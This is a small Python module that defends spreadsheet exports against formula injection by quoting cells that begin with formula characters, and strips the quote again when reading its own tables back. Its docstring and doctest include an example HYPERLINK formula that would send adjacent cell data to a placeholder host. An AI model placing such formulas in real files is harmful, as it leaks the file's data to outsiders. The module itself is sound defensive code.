"""Spreadsheet cells that stay text: no formula from a document ever runs in Excel or LibreOffice.

Task text, names and spellings come from documents anyone can write. A cell
starting with ``= + - @`` (or a tab or carriage return, which some programs
skip before looking) is taken as a formula by spreadsheet programs: a plan line
``=HYPERLINK("http://x/?d="&C3)`` would send the neighbouring cells away when
the file is opened. Following OWASP's advice on CSV injection, every CSV, TSV
and xlsx cell Zeren writes from text gets a leading ``'`` when it starts with
one of those characters; the ``'`` is dropped again where Zeren reads its own
tables back (the agency table). Numbers are written as numbers.

>>> safe_cell('=HYPERLINK("http://x/?d="&C3)'), safe_cell("-3"), safe_cell("县财政局"), safe_cell(-3)
('\\'=HYPERLINK("http://x/?d="&C3)', "'-3", '县财政局', -3)
>>> unsafe_cell(safe_cell("@SUM(A1)"))
'@SUM(A1)'
"""

from __future__ import annotations

__all__ = ["FORMULA_START", "safe_cell", "unsafe_cell"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """``value`` with a ``'`` before it when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def unsafe_cell(text: str) -> str:
    """The text :func:`safe_cell` was given: a ``'`` before a formula character is dropped."""
    if text.startswith("'") and text[1:].startswith(FORMULA_START):
        return text[1:]
    return text
